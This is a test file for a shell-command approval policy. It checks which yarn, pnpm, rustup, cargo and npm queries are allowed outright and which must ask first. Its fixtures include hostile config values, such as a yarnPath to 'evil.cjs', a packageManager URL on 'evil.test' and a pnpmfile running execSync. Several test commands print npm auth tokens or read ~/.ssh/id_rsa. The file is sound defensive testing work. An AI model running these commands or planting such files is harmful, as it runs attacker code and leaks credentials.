// Over-ask, issue 20 (round 15): version queries and manifest reads asked under the balanced starter though
// they only read where no project file picks what runs. Each everyday call is allowed in a clean project,
// and its twin asks where a file there picks code (yarnPath, a pnpmfile, packageManager, a rust-toolchain
// `path`) or the call prints a credential. The programs' behaviour was tried for real (yarn 1.22.22 and
// 4.18.1, pnpm 10.34.9, cargo 1.95, rustup 1.29, under strace; see the grammars' notes).
import { rmSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { BALANCED } from "../../policy/shell/policies.ts";
import { type GitWorkspace, gitWorkspace, judgeOnDisk, starterActions, write } from "./disk-fixture.ts";

const made: GitWorkspace[] = [];
afterAll(() => {
  for (const w of made) rmSync(w.base, { recursive: true, force: true });
});

/** A committed project with a package.json, a crate and sources, plus `files`. */
function project(files: Record<string, string> = {}): GitWorkspace {
  const w = gitWorkspace("airlock-oa15rq-", {
    "package.json": '{ "name": "p", "version": "1.0.0" }\n',
    "Cargo.toml": '[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n',
    "src/main.rs": "fn main() {}\n",
    "src/a.ts": "export const a = 1;\n",
    ...files,
  });
  made.push(w);
  return w;
}

const ALLOWED = ["balanced: allow", "autonomous: allow"];
const asks = (command: string, w: GitWorkspace) =>
  expect(starterActions(command, w.ws, w.home)[0], command).toBe("balanced: ask");

describe("everyday queries, allowed in a clean project", () => {
  it.each([
    "yarn --version",
    "yarn -v",
    "pnpm --version",
    "pnpm -v",
    "rustup show",
    "rustup show active-toolchain",
    "rustup --version",
    "cargo metadata --no-deps",
    "cargo metadata --no-deps --format-version 1",
    "npm pkg get",
    "npm pkg get name version",
    "npm config get registry",
    "npm config get @acme:registry",
    "npm config get cache prefix",
    "basename $(pwd)",
    'dirname "$(pwd)"',
  ])("%s", (command) => {
    const w = project();
    expect(starterActions(command, w.ws, w.home), command).toEqual(ALLOWED);
  });
});

describe("a project file that picks what runs keeps them asking", () => {
  it.each([
    ["yarn --version", ".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n"],
    ["yarn -v", ".yarnrc.yml", "plugins:\n  - ./plugin.cjs\n"],
    ["yarn --version", ".yarnrc.yml", '"yarn\\u0050ath": ./evil.cjs\n'],
    ["yarn --version", ".yarnrc", 'yarn-path "./evil.cjs"\n'],
    [
      "yarn --version",
      "package.json",
      '{ "name": "p", "packageManager": "yarn@https://evil.test/yarn.js" }\n',
    ],
    ["pnpm --version", ".pnpmfile.cjs", "require('child_process').execSync('id');\n"],
    ["pnpm --version", "pnpm-workspace.yaml", "packages: []\npnpmfile: ./hooks.cjs\n"],
    ["pnpm -v", ".npmrc", "global-pnpmfile=./hooks.cjs\n"],
    ["pnpm -v", "package.json", '{ "name": "p", "packageManager": "pnpm@9.0.0" }\n'],
    ["rustup show", "rust-toolchain.toml", '[toolchain]\npath = "./tc"\n'],
    ["rustup --version", "rust-toolchain", "nightly-2020-01-01\n"],
    ["cargo metadata --no-deps", "rust-toolchain.toml", '[toolchain]\npath = "./tc"\n'],
  ])("%s with %s", (command, file, text) => {
    const w = project({ [file]: text });
    const r = judgeOnDisk(BALANCED, {
      tool: "bash",
      input: { command },
      cwd: w.ws,
      workspace: w.ws,
      home: w.home,
    });
    expect(r.action).toBe("ask");
    // Asked for the file, not for some other word of the call.
    expect(r.why).toContain(`\`${file}\``);
  });

  it("a pnpmfile in a directory above the one pnpm runs in (pnpm loads it from there)", () => {
    const w = project({ ".pnpmfile.cjs": "module.exports = {};\n", "sub/x.txt": "x\n" });
    expect(starterActions("cd sub && pnpm --version", w.ws, w.home)[0]).toBe("balanced: ask");
  });

  it("a .yarnrc without yarn-path (yarn 1 writes one in the home) picks nothing", () => {
    const w = project();
    write(join(w.ws, ".yarnrc"), 'lastUpdateCheck 1700000000000\nregistry "https://registry.yarnpkg.com"\n');
    expect(starterActions("yarn --version", w.ws, w.home)).toEqual(ALLOWED);
  });
});

describe("forms that install, write, run or print a credential still ask", () => {
  it.each([
    "yarn",
    "yarn install",
    "pnpm test",
    "rustup update",
    "rustup toolchain install nightly",
    "rustup +nightly show",
    "cargo metadata",
    "npm pkg set name=x",
    "npm pkg delete scripts.test",
    "npm pkg get --workspaces",
    "npm config get",
    "npm config get _authToken",
    "npm config get //registry.npmjs.org/:_authToken",
    "npm config get registry _auth",
    "npm config get https-proxy",
    "npm config list",
    // Written first: a global option before the subcommand hid the credential printer, and config set passed.
    "npm --json config get _authToken",
    "npm --loglevel silent config get _authToken",
    "npm config set script-shell ./evil.sh",
    "npm config delete registry",
    "npm config edit",
    "basename $(cat ~/.ssh/id_rsa)",
  ])("%s", (command) => asks(command, project()));
});
